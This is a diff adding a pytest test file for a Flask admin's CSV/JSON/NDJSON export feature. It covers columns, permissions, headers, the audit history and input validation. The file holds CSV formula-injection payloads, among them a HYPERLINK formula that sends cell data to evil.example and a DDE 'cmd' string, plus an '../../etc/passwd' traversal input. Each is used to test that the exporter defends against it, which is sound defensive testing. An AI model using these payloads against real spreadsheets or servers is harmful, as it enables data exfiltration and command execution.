@@ -1,0 +1,371 @@
+"""A list as a file: what is in it, who may have it, and what the history tells of it."""
+
+import json
+import re
+from datetime import UTC, date, datetime
+from decimal import Decimal
+from typing import Any
+
+import pytest
+from flask import Flask
+
+from tests.admin.exports import as_rows, entries, taken
+from tests.admin.kinds import Mood
+from tests.admin.kinds import keep as keep_kind
+from tests.admin.samples import Colour, ComputedPartAdmin, Part, PartAdmin
+from tests.conftest import add_user, counted, signed_in
+from tests.library import world
+from tests.library.books import Book, Tag
+from tests.pages import Visitor
+from webapp.admin.options import ModelAdmin
+from webapp.users.admin import UserAdmin
+
+MOMENT = datetime(2026, 3, 1, 23, 30, 15, tzinfo=UTC)
+
+
+@pytest.fixture
+def parts(sample_app: Flask) -> Flask:
+    world.keep(
+        sample_app,
+        Part(id=1, name="Bolt", code="b", count=3, size=None, weight=Decimal("1.500"), colour=Colour.RED),
+        Part(id=2, name="Nut", code="a", count=1024, size=7, made_at=MOMENT, day=date(2026, 3, 2)),
+        Part(
+            id=3, name="Açaí", code="c", ratio=0.1, is_good=True, stage=1, note="two\nlines", token="canary"
+        ),
+    )
+    return sample_app
+
+
+@pytest.fixture
+def keeper(parts: Flask) -> Visitor:
+    person = add_user(parts, "alice", is_superuser=True, timezone="America/Sao_Paulo", locale="pt_BR")
+    return signed_in(parts, person)
+
+
+# What is in it
+
+
+def test_a_csv_file_holds_the_columns_of_the_list_by_name_and_its_values_as_addresses_write_them(
+    keeper: Visitor,
+) -> None:
+    head, *rows = as_rows(taken(keeper, "/parts/export/?format=csv"))
+    assert head == list(PartAdmin.list_display)
+    bolt, nut, acai = (dict(zip(head, row, strict=True)) for row in rows)
+    assert (bolt["name"], bolt["size"], bolt["weight"], bolt["colour"]) == ("Bolt", "", "1.500", "RED")
+    assert (nut["count"], nut["made_at"], nut["day"]) == ("1024", "2026-03-01T23:30:15+00:00", "2026-03-02")
+    assert (acai["name"], acai["ratio"], acai["is_good"], acai["stage"]) == ("Açaí", "0.1", "true", "1")
+    assert (acai["note"], acai["code"], bolt["is_good"]) == ("two\nlines", "c", "")
+
+
+def test_each_line_ends_as_rfc_4180_says_and_excel_sees_that_it_is_utf_8(keeper: Visitor) -> None:
+    body = keeper.client.get("/shelves/export/", buffered=True).data
+    assert body == b"\xef\xbb\xbflabel,room,number\r\n"
+
+
+def test_json_is_one_array_and_ndjson_an_object_a_line(keeper: Visitor) -> None:
+    array = json.loads(taken(keeper, "/parts/export/?format=json&sort=code"))
+    lines = taken(keeper, "/parts/export/?format=ndjson&sort=code").splitlines()
+    assert array == [json.loads(line) for line in lines]
+    nut, bolt, acai = array
+    assert list(nut) == list(PartAdmin.list_display)
+    assert (nut["count"], nut["size"], nut["made_at"]) == (1024, 7, "2026-03-01T23:30:15+00:00")
+    assert (bolt["weight"], bolt["colour"], bolt["size"], bolt["is_good"]) == ("1.500", "RED", None, None)
+    assert (acai["name"], acai["ratio"], acai["is_good"]) == ("Açaí", 0.1, True)
+
+
+def test_an_empty_list_is_a_file_as_well(sample_app: Flask, as_sample_alice: Visitor) -> None:
+    assert json.loads(taken(as_sample_alice, "/parts/export/?format=json")) == []
+    assert taken(as_sample_alice, "/parts/export/?format=ndjson") == ""
+    assert len(as_rows(taken(as_sample_alice, "/parts/export/?format=csv"))) == 1
+
+
+def test_search_filters_and_sort_of_the_address_count_and_pages_do_not(keeper: Visitor) -> None:
+    def names(query: str) -> list[str]:
+        return [row[0] for row in as_rows(taken(keeper, f"/parts/export/?format=csv&{query}"))[1:]]
+
+    assert names("") == ["Bolt", "Nut", "Açaí"]
+    assert names("sort=-code") == ["Açaí", "Bolt", "Nut"]
+    assert names("sort=size") == ["Nut", "Bolt", "Açaí"]
+    assert names("q=nut") == ["Nut"]
+    assert names("count__gte=3&sort=-count&size=25") == ["Nut", "Bolt"]
+    assert names("last=1&size=25") == ["Bolt", "Nut", "Açaí"]
+
+
+def test_what_methods_compute_is_in_it_too(keeper: Visitor) -> None:
+    rows = json.loads(taken(keeper, "/computed/export/?format=json"))
+    assert list(rows[0]) == list(ComputedPartAdmin.list_display)
+    assert [(row["name"], row["shout"], row["length"], row["size"]) for row in rows] == [
+        ("Nut", "NUT", 3, 7),
+        ("Açaí", "AÇAÍ", 4, None),
+        ("Bolt", "BOLT", 4, None),
+    ]
+
+
+def test_objects_are_read_batch_by_batch_and_each_once(
+    parts: Flask, keeper: Visitor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("webapp.admin.transfer.reading.BATCH", 2)
+    world.keep(
+        parts, *(Part(id=number, name=f"p{number}", size=number % 2 or None) for number in range(4, 10))
+    )
+    rows = json.loads(taken(keeper, "/computed/export/?format=json"))
+    assert sorted(row["name"] for row in rows) == sorted(
+        ["Bolt", "Nut", "Açaí", *(f"p{n}" for n in range(4, 10))]
+    )
+    assert entries(parts)[-1][2]["rows"] == 9
+
+
+def test_relations_are_told_by_the_texts_of_all_that_they_lead_to(
+    library_app: Flask, as_library_alice: Visitor
+) -> None:
+    book = world.sample_row(Book, 1)
+    book.translator = None
+    book.tags = [Tag(name=f"tag {number}") for number in range(1, 8)]
+    world.keep(library_app, book)
+    (row,) = json.loads(taken(as_library_alice, "/books/export/?format=json"))
+    assert (row["author"], row["translator"]) == ("Author 001", None)
+    assert row["tags"] == [f"tag {number}" for number in range(1, 8)]
+    assert (row["binding"], row["stage"], row["is_thick"]) == ("PAPERBACK", 1, False)
+    head, line = as_rows(taken(as_library_alice, "/books/export/"))
+    assert line[head.index("tags")].split("; ") == row["tags"]
+
+
+def test_of_what_a_list_shows_by_its_size_the_size_is_taken_away(
+    kind_app: Flask, kind_visitor: Visitor
+) -> None:
+    keep_kind(
+        kind_app, content=b"\xff\x00abc", ratio=-0.5, document={"a": [1, None]}, mood=Mood.BAD, point=1 + 2j
+    )
+    (row,) = json.loads(taken(kind_visitor, "/kinds/export/?format=json"))
+    assert (row["content"], row["ratio"], row["document"], row["point"]) == (
+        5,
+        -0.5,
+        {"a": [1, None]},
+        "(1+2j)",
+    )
+    head, line = as_rows(taken(kind_visitor, "/kinds/export/"))
+    assert (line[head.index("content")], line[head.index("ratio")]) == ("5", "-0.5")
+    assert json.loads(line[head.index("document")]) == {"a": [1, None]}
+
+
+def test_what_is_secret_stays_also_where_a_hook_lists_it(
+    parts: Flask, keeper: Visitor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(PartAdmin, "get_list_display", lambda self, user: ("name", "token"))
+    for form in ("csv", "json", "ndjson"):
+        text = taken(keeper, f"/parts/export/?format={form}")
+        assert "Bolt" in text
+        assert "canary" not in text
+        assert "token" not in text
+
+
+# Formulas
+
+
+DANGEROUS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "-cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(1)",
+    "'=1+1",
+    "''@x",
+)
+HARMLESS = ("-5", "-5.25", "plain", "1+1=2", "a=b", "'tis", "5-3", "x@example.org", " ", "")
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_what_begins_like_a_formula_is_given_an_apostrophe_in_csv_only(
+    sample_app: Flask, as_sample_alice: Visitor, text: str
+) -> None:
+    world.keep(sample_app, Part(id=1, name=text))
+    assert as_rows(taken(as_sample_alice, "/parts/export/"))[1][0] == f"'{text}"
+    assert as_rows(taken(as_sample_alice, "/computed/export/"))[1][1] == f"'{text.upper()}"
+    for form in ("json", "ndjson"):
+        found = json.loads(taken(as_sample_alice, f"/parts/export/?format={form}"))
+        assert (found[0] if form == "json" else found)["name"] == text
+
+
+def test_other_text_and_numbers_stay_as_they_are(sample_app: Flask, as_sample_alice: Visitor) -> None:
+    rows = [Part(id=number, name=text, count=-3) for number, text in enumerate(HARMLESS, 1)]
+    world.keep(sample_app, *rows, Part(id=99, name="n", weight=Decimal("-1.5"), ratio=-2.5))
+    found = as_rows(taken(as_sample_alice, "/parts/export/"))[1:]
+    assert [row[0] for row in found[:-1]] == list(HARMLESS)
+    assert {row[2] for row in found[:-1]} == {"-3"}
+    assert found[-1][6:8] == ["-1.500", "-2.5"]
+
+
+def test_one_apostrophe_less_gives_every_text_back(sample_app: Flask, as_sample_alice: Visitor) -> None:
+    texts = [*DANGEROUS, *HARMLESS]
+    world.keep(sample_app, *(Part(id=number, name=text) for number, text in enumerate(texts, 1)))
+    found = [row[0] for row in as_rows(taken(as_sample_alice, "/parts/export/"))[1:]]
+    guard = re.compile("'('*[=+\\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20])")
+    assert [text[1:] if guard.match(text) else text for text in found] == texts
+
+
+# Who may have it
+
+
+def test_it_takes_a_permission_of_its_own_besides_seeing_the_list(app: Flask) -> None:
+    for grants, status in (
+        ((), 403),
+        (("users.view",), 403),
+        (("users.export",), 403),
+        (("users.change", "users.add", "users.delete"), 403),
+        (("users.view", "users.export"), 200),
+        (("users.change", "users.export"), 200),
+    ):
+        visitor = signed_in(app, add_user(app, "-".join(("p", *grants)).replace(".", "-"), grants=grants))
+        assert visitor.get("/users/export/?format=csv", buffered=True).status == status, grants
+        if "users.view" in grants or "users.change" in grants:
+            assert bool(visitor.get("/users/").soup.select("a[href*='/users/export/']")) == (status == 200)
+
+
+def test_the_button_offers_each_format_of_what_the_list_shows(app: Flask, as_alice: Visitor) -> None:
+    page = as_alice.get("/users/?q=ali&sort=-email&is_active=true&size=25")
+    links = page.soup.select("#exports a")
+    assert [link.get_text(strip=True) for link in links] == ["CSV", "JSON", "NDJSON"]
+    assert links[0]["href"] == "/users/export/?q=ali&sort=-email&is_active=true&format=csv"
+    for link in links:
+        assert "alice" in taken(as_alice, str(link["href"]))
+
+
+def test_a_model_that_is_not_to_be_taken_away_is_not(
+    app: Flask, as_alice: Visitor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(UserAdmin, "can_export", False)
+    assert as_alice.get("/users/export/").status == 403
+    assert as_alice.get("/users/").soup.select("#exports") == []
+
+
+def test_strangers_are_asked_to_sign_in_first(app: Flask, stranger: Visitor) -> None:
+    page = stranger.get("/users/export/?format=csv")
+    assert (page.status, page.location) == (303, "/login?next=/users/export/?format%3Dcsv")
+
+
+def test_rows_that_do_not_exist_for_a_person_are_in_none_of_their_files(
+    parts: Flask, keeper: Visitor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def query(self: ModelAdmin, user: Any) -> Any:
+        return ModelAdmin.query(self, user).where(Part.name != "Nut")
+
+    monkeypatch.setattr(PartAdmin, "query", query)
+    for name in ("parts", "computed"):
+        for form in ("csv", "json", "ndjson"):
+            text = taken(keeper, f"/{name}/export/?format={form}&q=t")
+            assert "Bolt" in text
+            assert "Nut" not in text
+
+
+# The answer
+
+
+def test_the_file_is_named_after_the_model_and_the_day(
+    app: Flask, as_alice: Visitor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(
+        "webapp.admin.transfer.sending.now", lambda: datetime(2026, 11, 28, 1, tzinfo=UTC), raising=True
+    )
+    tokyo = signed_in(app, add_user(app, "kenji", is_superuser=True, timezone="America/Los_Angeles"))
+    kinds = {"csv": "text/csv", "json": "application/json", "ndjson": "application/x-ndjson"}
+    for visitor, day in ((as_alice, "2026-11-28"), (tokyo, "2026-11-27")):
+        for form, kind in kinds.items():
+            answer = visitor.client.get(f"/users/export/?format={form}", buffered=True)
+            assert answer.mimetype == kind
+            assert answer.headers["Content-Disposition"] == f'attachment; filename="users-{day}.{form}"'
+            assert answer.headers["Cache-Control"] == "no-store"
+            assert answer.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_head_answers_the_same_without_reading_or_telling_anything(app: Flask, as_alice: Visitor) -> None:
+    whole = as_alice.client.get("/users/export/?format=json", buffered=True)
+    told = len(entries(app))
+    with counted(app) as statements:
+        head = as_alice.client.head("/users/export/?format=json")
+    assert (head.status_code, head.data) == (200, b"")
+    ours = ("Content-Type", "Content-Disposition", "Cache-Control")
+    assert [head.headers[name] for name in ours] == [whole.headers[name] for name in ours]
+    assert not any("full_name" in statement and "ORDER BY" in statement for statement in statements)
+    assert len(entries(app)) == told
+    assert as_alice.client.head("/users/export/?format=xml").status_code == 400
+
+
+def test_it_is_sent_as_it_comes_and_no_compressor_waits_for_its_end(app: Flask, as_alice: Visitor) -> None:
+    answer = as_alice.client.get(
+        "/users/export/?format=json", headers={"Accept-Encoding": "br, gzip"}, buffered=True
+    )
+    assert "Content-Encoding" not in answer.headers
+    assert "Content-Length" not in answer.headers
+
+
+@pytest.mark.parametrize(
+    ("query", "part"),
+    [
+        ("format=xml", "format"),
+        ("format=CSV", "format"),
+        ("format=csv&format=json", "format"),
+        ("format=../../etc/passwd", "format"),
+        ("format=csv%00", "format"),
+        ("format=csv&columns=password", "columns"),
+        ("format=csv&sort=password", "sort"),
+        ("format=csv&password=x", "password"),
+        ("format=csv&password__startswith=x", "password__startswith"),
+        ("format=csv&groups__name=x", "groups__name"),
+        ("format=csv&size=1000000", "size"),
+        ("format=csv&after=x", "after"),
+        ("format=csv&last=2", "last"),
+        ("format=csv&q=a%00", "q"),
+        ("format=csv&is_active=maybe", "is_active"),
+        ("format=csv&nothing=1", "nothing"),
+    ],
+)
+def test_what_the_address_cannot_say_is_refused_by_name(
+    app: Flask, as_alice: Visitor, query: str, part: str
+) -> None:
+    page = as_alice.get(f"/users/export/?{query}")
+    assert page.status == 400
+    assert f"“{part}”" in page.text
+    way_on = page.link("Show the list without it")
+    assert way_on is not None
+    assert "format" not in way_on
+    assert as_alice.get(way_on).status == 200
+    assert entries(app) == []
+
+
+def test_a_list_itself_knows_no_format(app: Flask, as_alice: Visitor) -> None:
+    page = as_alice.get("/users/?format=csv")
+    assert page.status == 400
+    assert "“format”" in page.text
+
+
+# The history
+
+
+def test_the_history_tells_who_took_what_away_and_how_much(app: Flask, as_alice: Visitor) -> None:
+    add_user(app, "ben")
+    taken(as_alice, "/users/export/?format=json&q=ben&sort=-email&size=25")
+    taken(as_alice, "/users/export/")
+    assert entries(app) == [
+        ("export", "1 user", {"format": "json", "rows": 1, "list": "q=ben&sort=-email"}),
+        ("export", "2 users", {"format": "csv", "rows": 2}),
+    ]
+    assert "alice exported 2 users" in " ".join(as_alice.get("/").soup.get_text(" ", strip=True).split())
+
+
+def test_five_statements_and_no_more_for_more_rows(app: Flask) -> None:
+    bob = signed_in(app, add_user(app, "bob", grants=("users.view", "users.export")))
+    for more in range(2):
+        for number in range(20 * more):
+            add_user(app, f"more{number:03}")
+        bob.get("/users/")
+        with counted(app) as statements:
+            taken(bob, "/users/export/?format=csv&sort=username&is_active=true")
+        assert len(statements) <= 5, statements
